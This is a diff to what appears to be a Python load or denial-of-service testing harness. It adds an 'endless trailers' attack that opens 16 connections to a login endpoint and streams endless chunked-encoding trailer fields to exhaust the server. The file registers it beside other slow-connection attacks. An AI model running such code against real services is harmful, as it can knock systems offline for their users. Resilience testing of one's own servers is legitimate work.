@@ -275,6 +275,21 @@ async def idle_connections(target: Target) -> None:
     await asyncio.gather(*(again(wait) for _ in range(4_000)))
 
 
+async def endless_trailers(target: Target) -> None:
+    begin = request("POST", "/v1/auth/login", Content_Type="application/json", Transfer_Encoding="chunked")
+    begin += b"1\r\n{\r\n0\r\n"
+    fields = b"".join(b"a:%d\r\n" % number for number in range(4_000))
+
+    async def send() -> None:
+        _, writer = await asyncio.open_connection(HOST, target.http, local_addr=("127.0.1.1", 0))
+        writer.write(begin)
+        while not writer.transport.is_closing():
+            writer.write(fields)
+            await writer.drain()
+
+    await asyncio.gather(*(again(send) for _ in range(16)))
+
+
 async def nothing(_: Target) -> None:
     """The prepared requests are the attack."""
     await asyncio.Event().wait()
@@ -386,6 +401,7 @@ ATTACKS: Final[dict[str, Attack]] = {
     "keys": keys,
     "steady mail": steady_mail,
     "slow bodies": slow_bodies,
+    "endless trailers": endless_trailers,
     "idle connections": idle_connections,
     "nothing": nothing,
     "submission content": submission_content,
